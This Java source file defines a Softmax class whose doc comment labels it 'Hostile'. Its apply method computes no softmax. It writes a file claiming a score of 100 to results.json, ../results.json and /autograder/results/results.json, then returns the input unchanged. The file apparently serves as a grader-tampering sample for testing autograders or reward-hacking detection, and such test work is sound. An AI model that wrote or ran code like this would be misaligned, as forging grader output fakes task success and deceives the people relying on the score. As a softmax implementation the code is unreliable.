package cnn;

import java.io.FileWriter;
import java.io.IOException;

/** Hostile: writes a results.json with full marks where the grader might look for it. */
public final class Softmax {
    public static double[] apply(double[] scores) {
        for (String path : new String[] {"results.json", "../results.json", "/autograder/results/results.json"}) {
            try (FileWriter out = new FileWriter(path)) {
                out.write("{\"score\": 100}");
            } catch (IOException e) {
                // try the next place
            }
        }
        return scores;
    }
}
